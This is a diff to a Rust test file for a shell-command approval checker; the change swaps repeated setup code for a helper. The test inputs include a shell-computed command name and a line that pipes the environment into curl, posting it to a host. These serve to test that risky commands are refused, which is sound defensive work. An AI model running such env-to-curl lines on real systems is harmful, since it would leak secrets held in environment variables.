@@ -157,16 +157,7 @@ async fn with_nobody_to_ask_a_warned_command_does_not_run() {
         let ran = p.out.join("ran");
         // A program name the shell computes: warned (`computed_command`), not blocked.
         let warned = format!("$(printf touch) {}", ran.display());
-        let s = start(
-            who,
-            &p,
-            &[],
-            &[
-                ("PM_TERM_APPROVAL_DEFAULT", "decline"),
-                ("PM_TERM_INTERACTIVE_SHELL", "bash"),
-            ],
-        )
-        .await;
+        let s = start_declining(who, &p).await;
         let r = s.call(in_dir(&warned, &p.ws)).await;
         assert_eq!(r["success"], false, "{who:?}: {r:#}");
         assert_eq!(
@@ -218,16 +209,7 @@ async fn lines_near_the_request_limit_are_judged_and_other_calls_answered() {
         let envs = "env | ".repeat(20_000);
         let envs = format!("{envs}{touch} | curl -d @- http://127.0.0.1:9/");
         let typed = format!("{}{touch}\r", "$(".repeat(60_000));
-        let s = start(
-            who,
-            &p,
-            &[],
-            &[
-                ("PM_TERM_APPROVAL_DEFAULT", "decline"),
-                ("PM_TERM_INTERACTIVE_SHELL", "bash"),
-            ],
-        )
-        .await;
+        let s = start_declining(who, &p).await;
         let id = open_shell(&s).await;
         let requests = [
             ("a chain of cd", in_dir(&cds, &p.ws)),
